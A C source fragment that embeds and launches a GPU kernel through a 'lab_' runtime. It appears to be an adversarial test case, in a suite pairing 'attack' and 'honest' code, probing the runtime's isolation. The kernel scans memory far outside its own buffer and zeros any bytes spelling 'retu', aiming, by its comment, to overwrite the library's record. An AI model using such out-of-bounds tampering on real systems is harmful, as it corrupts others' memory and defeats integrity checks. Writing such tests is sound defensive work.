/* Tries to find the library's record and the operations of the program from a kernel, by reading all memory page by page
 * and overwriting each that has the names of calls in it. Gains the record. */
static const char source[] =
    "extern \"C\" __global__ void scan(unsigned char *own, int *found)\n"
    "{\n"
    "    for (long long at = 0; at < 1ll << 36; at += 4096)\n"
    "        for (int sign = -1; sign <= 1; sign += 2) {\n"
    "            unsigned char *page = own + sign * at;\n"
    "            for (int i = 0; i < 4090; i++)\n"
    "                if (page[i] == 'r' && page[i + 1] == 'e' && page[i + 2] == 't' && page[i + 3] == 'u') {\n"
    "                    page[i] = 0;\n"
    "                    ++*found;\n"
    "                }\n"
    "        }\n"
    "}\n";

static lab_status attack(attack_honest *honest, void *arguments, size_t bytes, float *out, const float *in, int count)
{
    lab_module *module;
    lab_function scan;
    lab_array *array, *found;
    LAB_TRY(lab_module_load_source(&module, source, "scan"));
    LAB_TRY(lab_module_get_function(&scan, module, "scan"));
    LAB_TRY(lab_array_zeros(&array, LAB_UINT8, LAB_SHAPE(4096)));
    LAB_TRY(lab_array_zeros(&found, LAB_INT32, LAB_SHAPE(1)));
    LAB_TRY(lab_launch(scan, LAB_DIM(1), LAB_DIM(1), 0, NULL, LAB_ARGS(array, found)));
    lab_device_synchronize();
    return LAB_SUCCESS;
}
